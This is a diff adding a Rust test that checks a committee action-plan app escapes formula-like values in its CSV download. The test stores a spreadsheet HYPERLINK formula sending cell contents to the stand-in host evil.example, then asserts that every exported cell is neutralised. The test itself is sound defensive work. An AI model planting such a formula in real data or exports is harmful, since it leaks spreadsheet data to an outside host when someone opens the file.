@@ -116,6 +116,38 @@ fn a_secretary_records_a_meeting_and_its_agreements_and_follows_them_up() {
 }
 
 #[test]
+fn no_cell_of_a_downloaded_csv_is_a_formula() {
+    let app = spawn_app();
+    let admin = app.admin();
+    let org = app.create_organization(&admin, "CECOMIP");
+    let committee = admin
+        .post("/api/v1/committees", &json!({"organization_id": org, "name": "Comité"}))
+        .json()["id"]
+        .as_i64()
+        .unwrap();
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Clic\")";
+    let r = admin.post(
+        &format!("/api/v1/committees/{committee}/actions"),
+        &json!({"description": evil, "responsible_name": "@SUM(A1:A9)", "due_date": day(5)}),
+    );
+    assert_eq!(r.status, 201, "{}", r.body);
+    let user = app.create_user(Role::GenderStaff, vec![], None);
+    let mut browser = app.browser();
+    browser.login(&user.username, PASSWORD);
+    let (status, bytes) = browser.download(&format!("/committees/{committee}/actions.csv"));
+    assert_eq!(status, 200);
+    let mut reader = csv::Reader::from_reader(bytes.as_slice());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[1], format!("'{evil}"), "kept, as text");
+    assert_eq!(&row[2], "'@SUM(A1:A9)");
+    for record in csv::Reader::from_reader(bytes.as_slice()).records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
+        }
+    }
+}
+
+#[test]
 fn the_action_plan_exports_as_csv_and_as_a_real_spreadsheet() {
     let app = spawn_app();
     let admin = app.admin();
